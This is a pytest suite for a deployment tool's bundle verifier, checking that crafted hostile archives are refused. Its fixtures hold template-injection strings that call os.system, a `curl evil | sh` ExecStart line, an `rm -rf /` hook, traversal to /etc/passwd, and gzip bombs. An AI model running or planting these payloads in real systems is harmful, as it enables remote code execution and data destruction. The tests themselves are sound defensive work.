"""Untrusted bundles cannot run code or lie: a corpus of hostile bundles, each built
here and handed to the real CLI (`plan` and `deploy --yes`, in-process through typer's runner),
must end in exit 2 with one `error:` line naming the file and the problem, no traceback, nothing
left in TMPDIR and no connection to the (loopback) host. Plus: the caps hold memory down (a
subprocess measures its peak RSS on a gzip bomb), --expect-id, OpenSSH signatures and the
inventory's `bundle_signers`, and the temp folder's lifetime (Ctrl-C included).

No test host: the fast tier.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import random
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import tempfile
import time
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from ddtree_ops.artifacts import bundle as bundle_mod
from ddtree_ops.artifacts.bundle import MANIFEST, BuiltBundle, build_bundle, open_bundle
from ddtree_ops.artifacts.bundle_manifest import bundle_id
from ddtree_ops.artifacts.resources import templates_dir as default_templates_dir
from ddtree_ops.cli.commands import app
from ddtree_ops.errors import BundleError, InputError
from ddtree_ops.testing.fake_host import fake_inventory
from fast_kit import PROBE_REL, write_patchset
from kit import default_dispositions

SSH_KEYGEN = shutil.which("ssh-keygen")
needs_ssh_keygen = pytest.mark.skipif(SSH_KEYGEN is None, reason="needs OpenSSH's ssh-keygen")
TEMPLATE = "templates/sglang-ddtree.service.j2"


# ---------------------------------------------------------------------------------------------
# the rig: a fresh TMPDIR, a loopback "host" nobody may reach, an inventory, the CLI


@pytest.fixture(autouse=True)
def tmpdir(tmp_path, monkeypatch) -> Path:
    """A fresh, empty TMPDIR for the tool (in-process and subprocesses); empty again at the end."""
    d = tmp_path / "TMPDIR"
    d.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(d))
    monkeypatch.setenv("TMPDIR", str(d))
    yield d
    assert not list(d.iterdir()), f"left behind in TMPDIR: {list(d.iterdir())}"


@pytest.fixture
def host_port():
    """A listener standing in for the host's sshd: nothing may connect to it."""
    lsock = socket.socket()
    lsock.bind(("127.0.0.1", 0))
    lsock.listen(8)
    lsock.setblocking(False)
    yield lsock.getsockname()[1]
    try:
        with pytest.raises(BlockingIOError):
            lsock.accept()  # nobody connected
    finally:
        lsock.close()


def closed_port() -> int:
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def write_inventory(tmp_path: Path, port: int, **host_vars) -> Path:
    kh = tmp_path / "known_hosts"
    kh.write_text("")
    host_vars.setdefault("connect_timeout", 2)
    # A closed port here is the control "this run got as far as connecting", not a blip: no
    # reconnect window (first_contact.py would retry the refused connect for 60 s).
    host_vars.setdefault("reconnect_window_s", 0)
    doc = fake_inventory(1, ssh_port=port, known_hosts=str(kh), **host_vars)
    inv = tmp_path / "inventory.yaml"
    inv.write_text(yaml.safe_dump(doc))
    return inv


@pytest.fixture
def inv(tmp_path, host_port) -> Path:
    return write_inventory(tmp_path, host_port)


def cli(*args: str):
    return CliRunner().invoke(app, [str(a) for a in args], catch_exceptions=False)


def refused(inv: Path, bundle: Path, *extra: str, match: str, commands=("plan", "deploy")) -> str:
    """Every command ends in exit 2 with one error line naming `bundle` and matching `match`."""
    line = ""
    for cmd in commands:
        yes = ["--yes"] if cmd == "deploy" else []
        r = cli(cmd, "-i", inv, "--bundle", bundle, *yes, *extra)
        out = r.stdout + r.stderr
        assert r.exit_code == 2, (cmd, out)
        assert "Traceback" not in out
        errors = [ln for ln in r.stderr.splitlines() if ln.startswith("error:")]
        assert len(errors) == 1, (cmd, r.stderr)
        line = errors[0]
        assert str(bundle) in line and match in line, (cmd, line)
        assert not list(Path(tempfile.tempdir).iterdir()), "a temp folder was left behind"
    return line


# ---------------------------------------------------------------------------------------------
# building bundles: a good one, and hostile ones from its members


@pytest.fixture
def good(tmp_path) -> BuiltBundle:
    ps = write_patchset(tmp_path / "ps", {PROBE_REL: b"PROBE = 1\n"}, name="hostile")
    return build_bundle(str(ps), tmp_path / "dist")


def members_of(path: Path) -> list[tuple[str, bytes]]:
    with tarfile.open(path, "r:gz") as tf:
        return [(m.name, tf.extractfile(m).read()) for m in tf]


def entry(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tuple:
    ti = tarfile.TarInfo(name)
    ti.type, ti.size, ti.linkname = kind, (len(data) if kind == tarfile.REGTYPE else 0), linkname
    return ti, data


def tar_bytes(entries, fmt=tarfile.GNU_FORMAT) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=fmt) as tf:
        for e in entries:
            ti, data = e if isinstance(e[0], tarfile.TarInfo) else entry(*e)
            tf.addfile(ti, io.BytesIO(data) if ti.isreg() else None)
    return raw.getvalue()


def write_tgz(path: Path, entries, fmt=tarfile.GNU_FORMAT) -> Path:
    path.write_bytes(gzip.compress(tar_bytes(entries, fmt), mtime=0))
    return path


def truthful(members: list[tuple[str, bytes]], extra_listed: dict[str, bytes] | None = None) -> list:
    """The members with bundle.json rewritten to list every other member with its true size and
    hash, and the matching id: a manifest that tells the truth about hostile content."""
    man = json.loads(dict(members)[MANIFEST])
    listed = {n: d for n, d in members if n != MANIFEST}
    listed.update(extra_listed or {})
    files = [{"path": n, "size": len(d), "sha256": hashlib.sha256(d).hexdigest()} for n, d in sorted(listed.items())]
    ps = man["patchset"]
    man["files"] = files
    man["id"] = bundle_id(ps["name"], ps["version"], ps["digest"], files)
    return [(MANIFEST, json.dumps(man).encode())] + [(n, d) for n, d in members if n != MANIFEST]


# ---------------------------------------------------------------------------------------------
# templates cannot call into Python


@pytest.mark.parametrize("body", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.system('touch MARKER') }}",
    "{{ self.__init__.__globals__.__builtins__.open('MARKER', 'w') }}",
    "{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
])
def test_a_bundle_template_that_reaches_into_python_is_refused_before_any_connection(tmp_path, inv, body):
    tdir = tmp_path / "evil-templates"
    shutil.copytree(default_templates_dir(), tdir)
    marker = tmp_path / "MARKER"
    (tdir / "sglang-ddtree.service.j2").write_text(
        "[Service]\nExecStart=/bin/true " + body.replace("MARKER", str(marker)) + "\n")
    ps = write_patchset(tmp_path / "ps", {PROBE_REL: b"PROBE = 1\n"}, name="evil")
    b = build_bundle(str(ps), tmp_path / "dist", tdir)  # a well-formed, truthful bundle
    refused(inv, b.path, match="the template reaches outside")
    assert not marker.exists()


# ---------------------------------------------------------------------------------------------
# member names: canonical, unique, in place, no file/folder clash


@pytest.mark.parametrize("alias", [
    "templates/./sglang-ddtree.service.j2",
    "templates//sglang-ddtree.service.j2",
    "./templates/sglang-ddtree.service.j2",
    "/templates/sglang-ddtree.service.j2",
    "patchset/../templates/sglang-ddtree.service.j2",
    "templates\\sglang-ddtree.service.j2",
    "templates/sglang-ddtree.service.j2/",
    "templates/sglang-ddtree.service.j2\n",
])
def test_a_member_name_that_aliases_a_verified_one_is_refused(tmp_path, inv, good, alias):
    """Before: `templates/./x.j2` passed and overwrote the verified template on extraction."""
    evil = b"[Service]\nExecStart=/bin/sh -c 'curl evil | sh'\n"
    path = write_tgz(tmp_path / "alias.tar.gz", members_of(good.path) + [(alias, evil)])
    refused(inv, path, match="member")


def test_a_member_given_twice_is_refused(tmp_path, inv, good):
    members = members_of(good.path)
    path = write_tgz(tmp_path / "dup.tar.gz", members + [(n, d) for n, d in members if n == TEMPLATE])
    refused(inv, path, match="appears twice")


@pytest.mark.parametrize("listed", [False, True], ids=["in-the-archive", "in-the-manifest-too"])
@pytest.mark.parametrize("name", ["evil.sh", "patchset/evil.sh", "templates/sub/x.j2", "templates/x.sh",
                                  "Templates/x.j2", "bundle.json.d/x", "patchset/files"])
def test_a_member_outside_bundle_json_patchset_and_templates_is_refused(tmp_path, inv, good, name, listed):
    members = members_of(good.path) + [(name, b"x")]
    path = write_tgz(tmp_path / "prefix.tar.gz", truthful(members) if listed else members)
    line = refused(inv, path, match="may be in a bundle")
    assert ("bundle.json: files[" in line) == listed


@pytest.mark.parametrize("listed", [False, True], ids=["in-the-archive", "in-the-manifest-too"])
@pytest.mark.parametrize("rel, why", [
    ("evil.pth", "is a .pth file"),
    ("sglang/evil.pth", "is a .pth file"),
    ("sitecustomize.py", "is a *customize.py"),
    ("usercustomize.py", "is a *customize.py"),
    ("sglang/srt/my_customize.py", "is a *customize.py"),
    ("sitecustomize/__init__.py", "is a *customize.py"),
    ("sglang/srt/__pycache__/server_args.cpython-310.pyc", "is under __pycache__/"),
    ("sglang/srt/__pycache__/notes.txt", "is under __pycache__/"),
    ("sglang/srt/server_args.pyc", "is bytecode"),
    ("sglang/srt/server_args.pyo", "is bytecode"),
])
def test_a_patchset_member_that_runs_at_interpreter_start_or_shadows_source_is_refused(tmp_path, inv, good, rel,
                                                                                         why, listed):
    members = members_of(good.path) + [(f"patchset/files/{rel}", b"import os\n")]
    path = write_tgz(tmp_path / "member.tar.gz", truthful(members) if listed else members)
    line = refused(inv, path, match=why)
    assert rel in line and ("bundle.json: files[" in line) == listed


def test_a_patchset_member_whose_name_only_resembles_a_refused_one_passes_the_name_check(tmp_path):
    ps = write_patchset(tmp_path / "ps", {PROBE_REL: b"P = 1\n", "sglang/srt/customize_args.py": b"C = 1\n",
                                          "sglang/srt/pth_utils.py": b"U = 1\n"}, name="alike")
    built = build_bundle(str(ps), tmp_path / "dist")
    with open_bundle(built.path) as ob:
        assert {f.path for f in ob.patchset.files} >= {"sglang/srt/customize_args.py", "sglang/srt/pth_utils.py"}


@pytest.mark.parametrize("order", ["file-first", "folder-first"])
def test_a_name_that_is_both_a_file_and_a_folder_is_refused(tmp_path, inv, good, order):
    pair = [("patchset/files/sglang/x", b"a"), ("patchset/files/sglang/x/y.py", b"b")]
    if order == "folder-first":
        pair.reverse()
    path = write_tgz(tmp_path / "clash.tar.gz", truthful(members_of(good.path) + pair))
    refused(inv, path, match="which is a file" if order == "file-first" else "inside it as a folder")


@pytest.mark.parametrize("kind,linkname,what", [
    (tarfile.SYMTYPE, "/etc/passwd", "a symbolic link"),
    (tarfile.LNKTYPE, MANIFEST, "a hard link"),
    (tarfile.DIRTYPE, "", "a folder"),
    (tarfile.CHRTYPE, "", "a character device"),
    (tarfile.BLKTYPE, "", "a block device"),
    (tarfile.FIFOTYPE, "", "a FIFO"),
    (tarfile.CONTTYPE, "", "a contiguous file"),
])
def test_links_devices_and_folders_are_refused(tmp_path, inv, good, kind, linkname, what):
    members = members_of(good.path)
    path = write_tgz(tmp_path / "link.tar.gz",
                     members[:1] + [entry("patchset/files/sglang/link.py", b"", kind, linkname)] + members[1:])
    refused(inv, path, match=f"is {what}: only regular files")


def test_pax_headers_are_refused(tmp_path, inv, good):
    members = members_of(good.path)
    ti, data = entry("patchset/files/sglang/x.py", b"x")
    ti.pax_headers = {"path": "templates/sglang-ddtree.service.j2"}  # a pax header renames the member
    path = write_tgz(tmp_path / "pax.tar.gz", members[:1] + [(ti, data)] + members[1:], fmt=tarfile.PAX_FORMAT)
    refused(inv, path, match="pax extended header")


def test_a_member_listed_in_no_manifest_or_with_a_lying_size_is_refused(tmp_path, inv, good):
    members = members_of(good.path)
    path = write_tgz(tmp_path / "unlisted.tar.gz", members + [("templates/evil.j2", b"x")])
    refused(inv, path, match="is not listed in bundle.json")
    lying = truthful(members)
    lying = [(n, d + b"#" if n == TEMPLATE else d) for n, d in lying]
    path = write_tgz(tmp_path / "size.tar.gz", lying)
    refused(inv, path, match="bundle.json says")


# ---------------------------------------------------------------------------------------------
# broken files: truncated, not gzip, not tar


def _padded(raw: bytes) -> bytes:
    return raw + bytes(-len(raw) % 512)


def _with_checksum(raw: bytes) -> bytes:
    """`raw` with the first header's checksum made right again."""
    hdr = raw[:148] + b" " * 8 + raw[156:512]
    return hdr[:148] + b"%06o\0 " % sum(hdr) + raw[156:]


GARBAGE_MESSAGES = {
    "truncated": "is not a complete gzip file", "cut-to-10-bytes": "is not a complete gzip file",
    "empty": "is an empty file", "plain-text": "Not a gzipped file", "random-bytes-gzipped": "is not a tar header",
    "bad-crc": "CRC check failed", "tar-without-gzip": "Not a gzipped file",
    "garbage-after-gzip": "is not a complete gzip file", "data-after-tar-end": "has data after the end",
    "missing-end-of-archive": "ends without its end-of-archive block", "header-size-not-octal": "unreadable size",
}


def _gzip_with_bad_crc(data: bytes) -> bytes:
    z = bytearray(gzip.compress(data, mtime=0))
    z[-8] ^= 0xFF
    return bytes(z)


@pytest.mark.parametrize("case", ["truncated", "cut-to-10-bytes", "empty", "plain-text", "random-bytes-gzipped",
                                  "bad-crc", "tar-without-gzip", "garbage-after-gzip", "data-after-tar-end",
                                  "missing-end-of-archive", "header-size-not-octal"])
def test_a_truncated_or_garbage_file_is_refused_in_one_line(tmp_path, inv, good, case):
    data = good.path.read_bytes()
    raw = gzip.decompress(data)
    rng = random.Random(11)
    blob = {
        "truncated": lambda: data[: len(data) * 2 // 3],
        "cut-to-10-bytes": lambda: data[:10],
        "empty": lambda: b"",
        "plain-text": lambda: b"hello, this is not a bundle\n" * 40,
        "random-bytes-gzipped": lambda: gzip.compress(rng.randbytes(20000)),
        "bad-crc": lambda: _gzip_with_bad_crc(raw),
        "tar-without-gzip": lambda: raw,
        "garbage-after-gzip": lambda: data + b"MALICIOUS TRAILER",
        "data-after-tar-end": lambda: gzip.compress(raw + b"hidden payload"),
        "missing-end-of-archive": lambda: gzip.compress(_padded(raw.rstrip(b"\0"))),
        "header-size-not-octal": lambda: gzip.compress(_with_checksum(raw[:124] + b"9" * 11 + raw[135:])),
    }[case]()
    path = tmp_path / f"{case}.tar.gz"
    path.write_bytes(blob)
    refused(inv, path, match=GARBAGE_MESSAGES[case])


# ---------------------------------------------------------------------------------------------
# bundle.json: capped, shallow, typed, and not lying


def _with_manifest(good: BuiltBundle, text: bytes) -> list:
    return [(MANIFEST, text)] + [(n, d) for n, d in members_of(good.path) if n != MANIFEST]


@pytest.mark.parametrize("case,match", [
    ("not-json", "is not valid JSON"),
    ("deep", "nested more than"),
    ("deep-in-a-string-is-fine-but-wrong-type", "must be a mapping"),
    ("duplicate-key", "appears twice"),
    ("nan", "is not JSON"),
    ("not-utf8", "is not UTF-8"),
    ("files-not-a-list", "files must be a list"),
    ("size-a-string", "files[0].size"),
    ("size-a-bool", "files[0].size"),
    ("sha-upper", "files[0].sha256"),
    ("path-dotdot", "files[0].path"),
    ("extra-key", "must have exactly the keys"),
    ("id-a-number", "is not a bundle id"),
    ("patchset-wrong-type", "patchset must be"),
    ("unknown-format", "unknown format"),
])
def test_a_malformed_or_lying_manifest_is_refused(tmp_path, inv, good, case, match):
    man = json.loads(dict(members_of(good.path))[MANIFEST])

    def edit(f):
        m = json.loads(json.dumps(man))
        f(m)
        return json.dumps(m).encode()

    text = {
        "not-json": lambda: b"{ not json",
        "deep": lambda: b"[" * 100_000 + b"]" * 100_000,
        "deep-in-a-string-is-fine-but-wrong-type": lambda: json.dumps({**man, "patchset": "[" * 5000}).encode(),
        "duplicate-key": lambda: json.dumps(man)[:-1].encode() + b', "id": "x-1-0123456789abcdef"}',
        "nan": lambda: edit(lambda m: m["files"][0].update(size=float("nan"))),
        "not-utf8": lambda: b'{"format": "\xff"}',
        "files-not-a-list": lambda: edit(lambda m: m.update(files="all of them")),
        "size-a-string": lambda: edit(lambda m: m["files"][0].update(size="12")),
        "size-a-bool": lambda: edit(lambda m: m["files"][0].update(size=True)),
        "sha-upper": lambda: edit(lambda m: m["files"][0].update(sha256=m["files"][0]["sha256"].upper())),
        "path-dotdot": lambda: edit(lambda m: m["files"][0].update(path="templates/../../etc/passwd")),
        "extra-key": lambda: edit(lambda m: m.update(hooks=["rm -rf /"])),
        "id-a-number": lambda: edit(lambda m: m.update(id=12)),
        "patchset-wrong-type": lambda: edit(lambda m: m.update(patchset=["x"])),
        "unknown-format": lambda: edit(lambda m: m.update(format="ddtree-ops-bundle/999")),
    }[case]()
    path = write_tgz(tmp_path / "manifest.tar.gz", _with_manifest(good, text))
    refused(inv, path, match=match)


def test_the_manifest_must_come_first(tmp_path, inv, good):
    members = members_of(good.path)
    path = write_tgz(tmp_path / "order.tar.gz", members[1:] + members[:1])
    refused(inv, path, match="the first member must be bundle.json")


# ---------------------------------------------------------------------------------------------
# caps


def _header_only(name: str, size: int) -> bytes:
    """One tar header claiming `size` bytes, and nothing after it (what a bomb's header says)."""
    ti = tarfile.TarInfo(name)
    ti.size = size
    return ti.tobuf(tarfile.GNU_FORMAT)


def test_a_member_over_the_size_cap_is_refused_before_its_data_is_read(tmp_path, inv, good):
    members = members_of(good.path)
    raw = tar_bytes(members[:1]).rstrip(b"\0")
    raw = raw + bytes(-len(raw) % 512) + _header_only("patchset/files/sglang/big.py", bundle_mod.MAX_MEMBER + 1)
    path = tmp_path / "big.tar.gz"
    path.write_bytes(gzip.compress(raw))  # no data at all after the header: it is never read
    refused(inv, path, match="is too large")
    raw = _header_only(MANIFEST, 8**11 - 1)  # the largest size an octal field holds
    path.write_bytes(gzip.compress(raw))
    refused(inv, path, match="is too large")


def test_a_manifest_over_its_cap_is_refused_before_it_is_read(tmp_path, inv):
    path = tmp_path / "bigmanifest.tar.gz"
    path.write_bytes(gzip.compress(_header_only(MANIFEST, bundle_mod.MAX_MANIFEST + 1)))
    refused(inv, path, match="bundle.json is larger than")


def test_a_file_over_the_compressed_cap_is_refused_without_reading_it(tmp_path, inv):
    path = tmp_path / "huge.tar.gz"
    with open(path, "wb") as fh:
        fh.truncate(bundle_mod.MAX_BUNDLE_BYTES + 1)  # sparse: costs no disk
    refused(inv, path, match=f"at most {bundle_mod.MAX_BUNDLE_BYTES}")


def test_a_tar_bomb_with_too_many_members_is_refused(tmp_path, inv, good):
    """bundle.json lists MAX_MEMBERS files truthfully; the archive holds one more member."""
    members = members_of(good.path)
    n = bundle_mod.MAX_MEMBERS - len(members) + 1
    extra = {f"patchset/files/bomb/{i:05d}": b"" for i in range(n)}
    entries = truthful(members, extra) + list(extra.items())
    assert len(entries) == bundle_mod.MAX_MEMBERS + 1
    path = write_tgz(tmp_path / "count.tar.gz", entries)
    refused(inv, path, match=f"more than {bundle_mod.MAX_MEMBERS} members", commands=("plan",))


def test_the_uncompressed_cap_counts_every_byte(tmp_path, good, monkeypatch):
    """A backstop under the declared sizes: headers and padding count too."""
    entries = truthful(members_of(good.path) + [(f"patchset/files/e{i}", b"") for i in range(40)])
    declared = sum(len(d) for _, d in entries)
    monkeypatch.setattr(bundle_mod, "MAX_UNCOMPRESSED", declared + 4096)  # 40 headers are 20 KiB more
    path = write_tgz(tmp_path / "many.tar.gz", entries)
    with pytest.raises(BundleError, match=f"decompresses to more than {declared + 4096} bytes"):
        open_bundle(path)


def _zero_gzip(n_mib: int) -> bytes:
    """n MiB of zeros as gzip: one compressed MiB repeated (a multi-member gzip file is valid)."""
    one = gzip.compress(bytes(1 << 20), compresslevel=9, mtime=0)
    return one * n_mib


_RSS_CHILD = r"""
import json, resource, sys, time
sys.argv = ["ddtree-ops", "plan", "-i", sys.argv[1], "--bundle", sys.argv[2]]
from ddtree_ops.cli.commands import main
t = time.monotonic()
try:
    main()
    code = 0
except SystemExit as e:
    code = e.code
print(json.dumps({"code": code, "rss_kib": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
                  "seconds": time.monotonic() - t}), file=sys.__stdout__)
"""


def _run_measured(inv: Path, bundle: Path) -> dict:
    r = subprocess.run([sys.executable, "-c", _RSS_CHILD, str(inv), str(bundle)], capture_output=True, text=True,
                       timeout=120, stdin=subprocess.DEVNULL)
    assert "Traceback" not in r.stderr, r.stderr
    return {**json.loads(r.stdout.strip().splitlines()[-1]), "stderr": r.stderr}


def test_a_gzip_bomb_is_refused_early_with_little_memory(tmp_path, inv, good):
    """300 KB that decompress to 300 MiB: refused at a cap, peak RSS within 16 MiB of a plain refusal."""
    baseline = tmp_path / "baseline.tar.gz"
    baseline.write_bytes(b"not gzip")
    base = _run_measured(inv, baseline)
    assert base["code"] == 2

    zeros = tmp_path / "zeros.tar.gz"  # all zeros: an empty archive, then 300 MiB of "padding"
    zeros.write_bytes(_zero_gzip(300))
    assert zeros.stat().st_size < 400_000

    # a truthful manifest listing five members of 60 MiB zeros each: over the uncompressed cap
    big = bytes(60 << 20)
    names = [f"patchset/files/bomb{i}" for i in range(5)]
    head = truthful(members_of(good.path), {n: big for n in names})
    prefix = tar_bytes(head).rstrip(b"\0")
    prefix += bytes(-len(prefix) % 512)
    parts = [gzip.compress(prefix + _header_only(names[0], len(big)), mtime=0)]
    for i in range(5):
        parts.append(_zero_gzip(60))
        if i + 1 < 5:
            parts.append(gzip.compress(_header_only(names[i + 1], len(big)), mtime=0))
    members_bomb = tmp_path / "members.tar.gz"
    members_bomb.write_bytes(b"".join(parts))
    del big
    assert members_bomb.stat().st_size < 1_000_000

    for path, match in ((zeros, "padding after the tar archive"), (members_bomb, "add up to more than")):
        got = _run_measured(inv, path)
        assert got["code"] == 2 and match in got["stderr"], got
        assert got["rss_kib"] < base["rss_kib"] + 16 * 1024, (path.name, got["rss_kib"], base["rss_kib"])
        assert got["seconds"] < 30


# ---------------------------------------------------------------------------------------------
# --expect-id


def test_expect_id_mismatch_names_both(tmp_path, inv, good):
    other = "hostile-1.0.0-0123456789abcdef"
    line = refused(inv, good.path, "--expect-id", other, match=other)
    assert good.id in line
    line = refused(inv, good.path, "--expect-id", "ab" * 32, match="ab" * 32)
    assert good.sha256 in line


def test_expect_id_accepts_the_id_or_the_file_sha256(good):
    for expect in (good.id, good.sha256, good.sha256.upper()):
        with open_bundle(good.path, expect_id=expect) as b:
            assert b.id == good.id and b.sha256 == good.sha256


def test_expect_id_must_look_like_an_id_or_a_sha256_and_needs_a_bundle(tmp_path, inv, good):
    r = cli("plan", "-i", inv, "--bundle", good.path, "--expect-id", "latest")
    assert r.exit_code == 2 and "--expect-id 'latest'" in r.stderr
    r = cli("plan", "-i", inv, "--expect-id", good.id)
    assert r.exit_code == 2 and "give --bundle too" in r.stderr


# ---------------------------------------------------------------------------------------------
# signatures


def _keygen(tmp_path: Path, name: str) -> Path:
    key = tmp_path / "keys" / name
    key.parent.mkdir(exist_ok=True)
    subprocess.run([SSH_KEYGEN, "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
    return key


def _allowed(tmp_path: Path, principal: str, key: Path) -> Path:
    pub = key.with_suffix(".pub").read_text().split()
    f = tmp_path / "allowed_signers"
    f.write_text(f"{principal} {pub[0]} {pub[1]}\n")
    return f


@pytest.fixture
def signing(tmp_path, host_port):
    """(release key, an inventory requiring signatures by release@example.org with it)."""
    key = _keygen(tmp_path, "release")
    signers = _allowed(tmp_path, "release@example.org", key)
    policy = {"allowed_signers": str(signers), "identity": "release@example.org", "required": True}
    return key, write_inventory(tmp_path, host_port, bundle_signers=policy)


@needs_ssh_keygen
def test_a_bundle_signed_by_an_allowed_key_passes_and_goes_on_to_the_hosts(tmp_path, signing):
    key, inv = signing
    r = cli("bundle", "-p", str(write_patchset(tmp_path / "ps", {PROBE_REL: b"P = 1\n"}, name="signed")),
            "--out", tmp_path / "dist", "--sign-key", key, "--json")
    assert r.exit_code == 0, r.stderr
    doc = json.loads(r.stdout)
    assert Path(doc["signature"]) == Path(doc["path"] + ".sig") and Path(doc["signature"]).is_file()
    # The gate passes; the tool goes on and connects (a closed port: unreachable, exit 1, not 2).
    text = yaml.safe_load(inv.read_text())
    text["all"]["vars"]["ssh_port"] = closed_port()
    inv.write_text(yaml.safe_dump(text))
    r = cli("plan", "-i", inv, "--bundle", doc["path"], "--expect-id", doc["id"])
    assert r.exit_code == 1, r.stderr
    assert 'Good "ddtree-ops-bundle" signature for release@example.org' in r.stderr


@needs_ssh_keygen
def test_a_bundle_signed_by_another_key_is_refused(tmp_path, signing, good):
    _, inv = signing
    bundle_mod.sign_bundle(good.path, _keygen(tmp_path, "mallory"))
    refused(inv, good.path, match="is not a good signature by 'release@example.org'")


@needs_ssh_keygen
def test_a_good_signature_of_another_bundle_is_refused(tmp_path, signing, good):
    key, inv = signing
    other = build_bundle(str(write_patchset(tmp_path / "ps2", {PROBE_REL: b"P = 2\n"}, name="other")),
                         tmp_path / "dist2", sign_key=key)
    shutil.copy(other.signature, bundle_mod.signature_path(good.path))
    refused(inv, good.path, match="is not a good signature")


@needs_ssh_keygen
def test_a_signature_by_the_right_key_for_another_identity_is_refused(tmp_path, signing, good):
    key, inv = signing
    bundle_mod.sign_bundle(good.path, key)
    _allowed(tmp_path, "intern@example.org", key)  # the key now stands for someone else
    refused(inv, good.path, match="is not a good signature by 'release@example.org'")


@needs_ssh_keygen
def test_a_missing_signature_is_refused_when_required(tmp_path, signing, good):
    _, inv = signing
    refused(inv, good.path, match="has no signature")


@needs_ssh_keygen
def test_an_unreadable_signature_is_refused(tmp_path, signing, good):
    _, inv = signing
    bundle_mod.signature_path(good.path).write_text("-----BEGIN SSH SIGNATURE-----\ngarbage\n")
    refused(inv, good.path, match="is not a good signature")


def test_without_a_required_policy_an_unsigned_bundle_goes_on(tmp_path, good):
    signers = tmp_path / "allowed_signers"
    signers.write_text("")
    inv = write_inventory(tmp_path, closed_port(), bundle_signers={
        "allowed_signers": str(signers), "identity": "release@example.org", "required": False})
    r = cli("plan", "-i", inv, "--bundle", good.path)
    assert r.exit_code == 1 and "not signed" in r.stderr, r.stderr


def test_deploy_of_a_working_tree_is_refused_when_signatures_are_required(tmp_path, host_port):
    signers = tmp_path / "allowed_signers"
    signers.write_text("")
    policy = {"allowed_signers": str(signers), "identity": "release@example.org"}  # required: true by default
    inv = write_inventory(tmp_path, host_port, bundle_signers=policy)
    ps = write_patchset(tmp_path / "ps", {PROBE_REL: b"P = 1\n"}, name="tree")
    r = cli("deploy", "-i", inv, "--patchset", ps, "--yes")
    assert r.exit_code == 2 and "requires signed bundles" in r.stderr and "--allow-unsigned" in r.stderr
    r = cli("deploy", "-i", inv, "--bundle", ps, "--allow-unsigned", "--yes")
    assert r.exit_code == 2 and "--allow-unsigned is for --patchset only" in r.stderr
    # plan changes nothing: a working tree may be planned; --allow-unsigned lets deploy go on
    inv = write_inventory(tmp_path, closed_port(), bundle_signers=policy)
    r = cli("plan", "-i", inv, "--patchset", ps)
    assert r.exit_code == 1, r.stderr
    r = cli("deploy", "-i", inv, "--patchset", ps, "--allow-unsigned", "--yes")
    assert r.exit_code != 2 and "warning: --allow-unsigned" in r.stderr, r.stderr


def test_inventory_bundle_signers_is_validated():
    from ddtree_ops.config.inventory import BundleSigners, parse_inventory
    from ddtree_ops.errors import InventoryError

    def host(policy):
        return parse_inventory(fake_inventory(1, bundle_signers=policy)).hosts["fh1"]

    assert host(None).bundle_signers is None
    assert host({"allowed_signers": "/etc/ddtree/allowed_signers", "identity": "rel@x.org"}).bundle_signers == \
        BundleSigners("/etc/ddtree/allowed_signers", "rel@x.org", True)
    for bad, field in (({"identity": "a"}, "allowed_signers"),
                       ({"allowed_signers": "rel", "identity": "a"}, "allowed_signers"),
                       ({"allowed_signers": "/a", "identity": "-O no-touch-required"}, "identity"),
                       ({"allowed_signers": "/a", "identity": "a", "required": "yes"}, "required"),
                       ({"allowed_signers": "/a", "identity": "a", "extra": 1}, "extra")):
        with pytest.raises(InventoryError, match=f"bundle_signers.{field}"):
            host(bad)


# ---------------------------------------------------------------------------------------------
# the temp folder's lifetime, and robustness


def test_the_temp_folder_is_removed_after_use_and_on_ctrl_c(tmp_path, good, tmpdir, monkeypatch):
    with open_bundle(good.path) as b:
        assert b.templates_dir.is_dir() and list(tmpdir.iterdir())
    assert not list(tmpdir.iterdir())

    def interrupted(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr(bundle_mod, "load_patchset", interrupted)  # Ctrl-C while extracting
    with pytest.raises(KeyboardInterrupt):
        open_bundle(good.path)
    assert not list(tmpdir.iterdir())


@pytest.mark.interrupts
@pytest.mark.parametrize("sig, code, named", [(signal.SIGINT, 130, "Ctrl-C"), (signal.SIGTERM, 143, "SIGTERM"),
                                              (signal.SIGHUP, 129, "SIGHUP")], ids=["SIGINT", "SIGTERM", "SIGHUP"])
def test_ctrl_c_while_connecting_removes_the_temp_folder(tmp_path, good, tmpdir, sig, code, named):
    """The real tool in a subprocess: SIGINT, SIGTERM or SIGHUP while it waits for the host's SSH
    banner ends it as Ctrl-C does (128 + the signal's number, the signal named), temp folder gone."""
    lsock = socket.socket()
    lsock.bind(("127.0.0.1", 0))
    lsock.listen(8)  # accepts (backlog) and never speaks
    try:
        inv = write_inventory(tmp_path, lsock.getsockname()[1], connect_timeout=60)
        proc = subprocess.Popen([sys.executable, "-m", "ddtree_ops", "plan", "-i", str(inv), "--bundle",
                                 str(good.path)], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True, preexec_fn=default_dispositions)
        try:
            line = proc.stderr.readline()
            assert "verified" in line, line
            assert list(tmpdir.iterdir())  # the extracted bundle, in use
            time.sleep(0.5)
            proc.send_signal(sig)
            _, err = proc.communicate(timeout=30)
        finally:
            if proc.poll() is None:
                proc.kill()
                proc.wait()
        assert proc.returncode == code and "Traceback" not in err, err
        assert f"interrupted ({named})" in err, err
        assert not list(tmpdir.iterdir())
    finally:
        lsock.close()


def test_a_transport_threads_error_log_never_reaches_the_operators_stderr():
    """Why the test above once failed (a fresh clone, SIGTERM): the signal closed the socket while
    paramiko's transport thread read the banner; the thread logged "Error reading SSH protocol
    banner" with its traceback, and with no handler configured Python's last-resort handler put it
    on stderr. The CLI now gives paramiko's loggers a NullHandler. A race there; here the log call
    itself, in a fresh interpreter (pytest configures logging in this one), with the CLI's set-up
    and without it (the control)."""
    code = ("import logging, sys\n"
            "if sys.argv[1] == 'cli':\n"
